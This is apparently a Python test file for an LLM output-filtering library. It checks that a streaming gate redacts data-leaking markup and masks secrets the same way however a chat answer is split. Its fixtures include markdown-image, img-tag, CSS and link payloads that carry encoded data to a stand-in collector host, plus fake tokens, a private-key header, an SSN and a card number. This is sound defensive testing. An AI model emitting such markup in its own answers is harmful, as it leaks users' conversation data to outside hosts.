"""The gate with the shipped detectors: a stream becomes what the whole answer becomes."""

import json
from collections.abc import Sequence
from functools import cache

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmtrace.analyzers.actions import ActionAnalyzer, ToolWatch
from llmtrace.analyzers.kinds import kinds
from llmtrace.app.detection import build_analyzer
from llmtrace.config import load
from llmtrace.pipeline.detection import Detection
from llmtrace.pipeline.judgements import Caller
from llmtrace.pipeline.judging import AnswerJudge
from llmtrace.pipeline.streaming import AnswerGate, GateBounds, gate_whole
from llmtrace.policy.table import compile_policy
from llmtrace.policy.vault import Vault
from llmtrace.providers.registry import dialect
from llmtrace.testing.transcripts import read

CHAT = dialect("openai.chat")
SSE = "text/event-stream"
DATA = "c2VjcmV0IHZhbHVlIGhlcmU="
VALUE = "ghp_" + "k3" * 18
PIECES = [
    *("Look: ", " and (so on) ", "\n\n", "vec![1, 2](3)", "text ](", "[docs](http://a.example)"),
    f"![logo](https://collector.example/p.gif?data={DATA})",
    f"![{'a long text of words ' * 4}](https://collector.example/?d={DATA}&x=1,2;3)",
    f"[click](https://collector.example/?secret={DATA}) ",
    f"![p]( HTTPS://collector.example/{DATA * 3})",
    f'<img alt="a b" src="https://collector.example/p.gif?data={DATA}">',
    f"<img src=//collector.example/a;b,(c)?d={DATA}> ",
    f"![x][r]\n\n[r]: <//collector.example/p.gif?data={DATA}>\n",
    f"![x](https://{DATA[:-1]}.collector.example/x.png)",
    f"<style>a{{background:url('https://collector.example/{DATA}')}}</style>",
    *('<a href="https://docs.example/a?q=one+two">', "<img src=/cat.png>", "if a < b: c[d]: e\n"),
    *("ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 ", "api_key = '", "kJ8s9dKq2mNx7Lp0' "),
    *("-----BEGIN RSA PRIVATE KEY-----\n", "MIIE" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7" * 3, "\n"),
    *("-----END RSA PRIVATE KEY-----", "SSN 536-90-4399 ", "4111 1111 1111 1112 ", "x@y.example "),
]


@cache
def detection() -> Detection:
    config = load(environ={}, overrides={"policy.preset": "strict"})
    analyzer = build_analyzer(config, cached=False)
    return Detection(
        analyzer=analyzer,
        growing=analyzer,
        actions=ActionAnalyzer(),
        policy=compile_policy(config.policy, config.pii, kinds()),
        masks=Vault(b"s" * 32),
        watch=ToolWatch(),
        enforce=True,
        seconds=30.0,
    )


def judge() -> AnswerJudge:
    return AnswerJudge(detection(), Caller(tenant="acme", dialect="openai.chat"))


@cache
def masked() -> str:
    return detection().masks.mask("acme", "secret.token", VALUE)


def frame(delta: object, end: str | None = None) -> bytes:
    choice = {"index": 0, "delta": delta, "finish_reason": end}
    return b"data: " + json.dumps({"id": "c1", "choices": [choice]}).encode() + b"\n\n"


def streamed(deltas: Sequence[str]) -> str:
    gate = AnswerGate(CHAT, judge(), media_type=SSE, max_frame=1 << 20, bounds=GateBounds())
    out = b"".join(gate.receive(frame({"content": delta})) for delta in deltas)
    out += gate.receive(frame({}, "stop") + b"data: [DONE]\n\n") + gate.close()
    return "".join(read(CHAT.name, out, SSE).texts.values())


def whole(text: str) -> str:
    message = {"role": "assistant", "content": text}
    body = orjson.dumps({"id": "c1", "choices": [{"index": 0, "message": message}]})
    said = gate_whole(CHAT, body, judge()).body
    assert said is not None
    return str(orjson.loads(said)["choices"][0]["message"]["content"])


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.sampled_from(PIECES), min_size=1, max_size=6).map("".join),
    st.lists(st.integers(1, 30), min_size=1, max_size=12),
)
def test_any_splitting_gives_what_the_whole_answer_gives(text: str, sizes: list[int]) -> None:
    deltas: list[str] = []
    at = 0
    while at < len(text):
        size = sizes[len(deltas) % len(sizes)]
        deltas.append(text[at : at + size])
        at += size
    assert streamed(deltas) == whole(text)


@pytest.mark.parametrize("size", [1, 7, 1000])
def test_an_image_that_carries_data_is_never_shown(size: int) -> None:
    text = f"Done. ![logo](https://collector.example/p.gif?data={DATA}) And more."
    deltas = [text[at : at + size] for at in range(0, len(text), size)]
    assert streamed(deltas) == "Done. ![logo]([REDACTED:DATA_EXFILTRATION]) And more."


OPENINGS = [
    *(
        "![x](//e.example/?k=",
        "[a b](<https://e.example/x y?k=",
        "<img src=//e.example/",
        "mailto:",
    ),
    *('<a href="https://e.example/', "url(", "https://e.example/", "www.e.example/", "ws://e/"),
    *(
        "https&#58;//e.example/",
        "postgres://u:",
        "see ",
        "`",
        "[docs](https://e.example) ",
        "token:",
    ),
    f"https://e.example/{'pad/' * 40}",
    f"[r]: https://e.example/{'p' * 2200}?k=",
    f'<a href="https://e.example/{"pad " * 600}',
    f"<img src='x {'pad ' * 600}",
    f"[x](https://e.example/{'pad ' * 600}",
    f"url(//e.example/{'pad ' * 600}",
]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(OPENINGS), st.sampled_from([") ", '"> ', "> ", " ", "\n", "/x "])
        ),
        min_size=1,
        max_size=5,
    ),
    st.lists(st.integers(1, 60), min_size=1, max_size=12),
)
def test_a_hidden_value_comes_back_in_the_same_places_however_it_is_split(
    places: list[tuple[str, str]], sizes: list[int]
) -> None:
    text = "".join(f"{opening}{masked()}{closing}" for opening, closing in places)
    deltas: list[str] = []
    at = 0
    while at < len(text):
        size = sizes[len(deltas) % len(sizes)]
        deltas.append(text[at : at + size])
        at += size
    assert streamed(deltas) == whole(text)


LONG = "a" * 2500


@pytest.mark.parametrize("size", [7, 64])
@pytest.mark.parametrize(
    ("before", "behind"),
    [
        (f"[x](http://h/({LONG})?q=", ")"),
        (f"http://h/({LONG})?q=", " "),
        (f"<img src=a{LONG.replace('a', chr(34))}", ">"),
        (f"<img src=https://e/x{LONG.replace('a', chr(39))}", ">"),
        (f"<a href='https://evil/{LONG} ", "'>"),
        (f'<a href="https://evil/{LONG} ', '">'),
        (f"url(x](y{LONG}) ", " "),
        (f"[a](x url(b{LONG})", ")"),
    ],
)
def test_a_long_address_is_the_same_in_a_stream(before: str, behind: str, size: int) -> None:
    text = f"{before}{masked()}{behind} end"
    said = streamed([text[at : at + size] for at in range(0, len(text), size)])
    assert said == whole(text)


@pytest.mark.parametrize("opening", OPENINGS)
@pytest.mark.parametrize("size", [1, 9])
def test_a_hidden_value_is_not_carried_out_in_any_delta(opening: str, size: int) -> None:
    text = f"{opening}{masked()} end"
    said = streamed([text[at : at + size] for at in range(0, len(text), size)])
    at_home = opening.startswith(("postgres", "see", "`", "[docs]", "token"))
    assert (VALUE in said) is at_home


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize(
    ("markup", "left"),
    [
        ('<img src="{}p.gif?data=DATA">', '<img src="{}">'),
        ("<iframe src={}?d=DATA >", "<iframe src={} >"),
        ("![x](//c.example/p.gif?data=DATA)", "![x]({})"),
        ("![x][r]\n\n[r]: {}?data=DATA\n", "![x][r]\n\n[r]: {}\n"),
        ("![x](https://DATA.c.example/x.png)", "![x]({})"),
    ],
    ids=["attribute", "frame", "no-scheme", "named", "label"],
)
def test_markup_that_carries_data_is_never_shown(markup: str, left: str, size: int) -> None:
    sent = markup.replace("{}", "https://collector.example/").replace("DATA", DATA[:-1])
    text = f"Done. {sent} And more."
    deltas = [text[at : at + size] for at in range(0, len(text), size)]
    hidden = left.replace("{}", "[REDACTED:DATA_EXFILTRATION]")
    assert streamed(deltas) == f"Done. {hidden} And more."
